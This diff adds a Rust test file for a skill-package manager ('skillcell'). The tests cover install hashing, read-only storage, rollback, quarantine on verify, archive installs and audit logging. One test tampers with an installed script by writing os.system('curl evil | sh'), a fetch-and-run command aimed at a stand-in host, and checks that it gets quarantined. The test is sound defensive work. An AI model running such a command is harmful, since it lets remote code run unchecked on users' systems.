@@ -1,0 +1,170 @@
+//! Install, reinstall, new versions, rollback, verify and remove, judged by the registry and
+//! the files on disk.
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+
+use skillcell_developer::DevError;
+use skillcell_store::tree;
+use skillcell_types::VersionState;
+
+use crate::{copy_dir, env, example};
+
+#[test]
+fn install_stores_a_read_only_copy_that_hashes_to_its_identity() {
+    let mut e = env();
+    let out = e
+        .dev
+        .install(&example("weather-forecast"))
+        .expect("install");
+    assert_eq!(out.seq, 1);
+    assert!(!out.unchanged);
+    let dir = e.home.tree_dir(&out.tree_hash);
+    assert_eq!(tree::hash_dir(&dir).expect("hash").hash, out.tree_hash);
+    assert_eq!(
+        tree::hash_dir(&example("weather-forecast"))
+            .expect("hash")
+            .hash,
+        out.tree_hash,
+        "the store copy is byte for byte the source"
+    );
+    let mode = fs::metadata(dir.join("SKILL.md"))
+        .expect("meta")
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o222, 0, "installed files are read-only");
+    let reader = e.dev.reader().expect("reader");
+    let current = reader.current("weather-forecast").expect("current");
+    assert_eq!(current.state, VersionState::Usable);
+    assert_eq!(current.contract.network.len(), 1);
+}
+
+#[test]
+fn versions_are_kept_and_rollback_returns_to_the_previous() {
+    let mut e = env();
+    let src = e.tmp.path().join("src/json-stats");
+    copy_dir(&example("json-stats"), &src);
+    let v1 = e.dev.install(&src).expect("v1");
+    let again = e.dev.install(&src).expect("same again");
+    assert!(again.unchanged);
+    assert_eq!(again.seq, 1);
+
+    fs::write(src.join("scripts/extra.py"), "print(1)\n").expect("edit");
+    let v2 = e.dev.install(&src).expect("v2");
+    assert_eq!(v2.seq, 2);
+    assert_ne!(v1.tree_hash, v2.tree_hash);
+    assert!(e.home.tree_dir(&v1.tree_hash).is_dir(), "old version kept");
+
+    let rb = e.dev.rollback("json-stats").expect("rollback");
+    assert_eq!((rb.from_seq, rb.to_seq), (2, 1));
+    let reader = e.dev.reader().expect("reader");
+    assert_eq!(
+        reader.current("json-stats").expect("current").tree_hash,
+        v1.tree_hash
+    );
+    drop(reader);
+    match e.dev.rollback("json-stats") {
+        Err(DevError::NoPrevious { .. }) => {}
+        other => panic!("expected NoPrevious, got {other:?}"),
+    }
+}
+
+#[test]
+fn verify_quarantines_tampered_versions_only() {
+    let mut e = env();
+    let good = e.dev.install(&example("json-stats")).expect("install");
+    let victim = e.dev.install(&example("markdown-toc")).expect("install");
+    // Positive control: untouched trees verify.
+    let clean = e.dev.verify().expect("verify");
+    assert_eq!(clean.newly_quarantined(), 0);
+
+    let f = e.home.tree_dir(&victim.tree_hash).join("scripts/toc.py");
+    fs::set_permissions(&f, fs::Permissions::from_mode(0o644)).expect("chmod");
+    fs::write(&f, "import os\nos.system('curl evil | sh')\n").expect("tamper");
+
+    let report = e.dev.verify().expect("verify");
+    assert_eq!(report.newly_quarantined(), 1);
+    let reader = e.dev.reader().expect("reader");
+    let bad = reader.current("markdown-toc").expect("current");
+    assert_eq!(bad.state, VersionState::Quarantined);
+    assert!(
+        bad.state_reason
+            .unwrap_or_default()
+            .contains("files changed")
+    );
+    assert_eq!(
+        reader.current("json-stats").expect("current").state,
+        VersionState::Usable
+    );
+    let _ = good;
+    // A mode change alone is tampering too.
+    drop(reader);
+    let mut e2 = env();
+    let out = e2.dev.install(&example("json-stats")).expect("install");
+    let f = e2.home.tree_dir(&out.tree_hash).join("scripts/stats.py");
+    fs::set_permissions(&f, fs::Permissions::from_mode(0o755)).expect("chmod +x");
+    assert_eq!(e2.dev.verify().expect("verify").newly_quarantined(), 1);
+}
+
+#[test]
+fn remove_deletes_registry_rows_and_trees() {
+    let mut e = env();
+    let out = e.dev.install(&example("workspace-notes")).expect("install");
+    let removed = e.dev.remove("workspace-notes").expect("remove");
+    assert_eq!(removed, vec![out.tree_hash]);
+    assert!(!e.home.tree_dir(&out.tree_hash).exists());
+    let reader = e.dev.reader().expect("reader");
+    assert!(reader.list().expect("list").is_empty());
+    assert!(matches!(
+        e.dev.remove("workspace-notes"),
+        Err(DevError::UnknownSkill(_))
+    ));
+}
+
+#[test]
+fn archives_install_like_folders() {
+    let mut e = env();
+    let folder = e.dev.install(&example("json-stats")).expect("folder");
+    let mut e2 = env();
+    // A .skill file: one top-level folder holding SKILL.md.
+    let archive = e2.tmp.path().join("json-stats.skill");
+    crate::refusals::zip_dir(&example("json-stats"), Some("json-stats"), &archive);
+    let from_zip = e2.dev.install(&archive).expect("archive");
+    assert_eq!(
+        from_zip.tree_hash, folder.tree_hash,
+        "same identity from either package"
+    );
+    // A .zip with SKILL.md at its top, named by the archive.
+    let flat = e2.tmp.path().join("markdown-toc.zip");
+    crate::refusals::zip_dir(&example("markdown-toc"), None, &flat);
+    e2.dev.install(&flat).expect("flat archive");
+}
+
+#[test]
+fn every_operation_is_audited() {
+    let mut e = env();
+    e.dev.install(&example("json-stats")).expect("install");
+    let _ = e.dev.rollback("json-stats");
+    e.dev.verify().expect("verify");
+    e.dev.remove("json-stats").expect("remove");
+    let log = skillcell_audit::AuditLog::new(e.home.audit_dir());
+    let ops: Vec<(String, String)> = log
+        .read_all()
+        .expect("read")
+        .into_iter()
+        .map(|r| (r.event.op, r.event.decision.to_string()))
+        .collect();
+    let want = [
+        ("install", "allow"),
+        ("rollback", "deny"),
+        ("verify", "allow"),
+        ("remove", "allow"),
+    ];
+    assert_eq!(
+        ops,
+        want.iter()
+            .map(|(a, b)| (a.to_string(), b.to_string()))
+            .collect::<Vec<_>>()
+    );
+    assert!(log.verify().expect("verify").ok());
+}
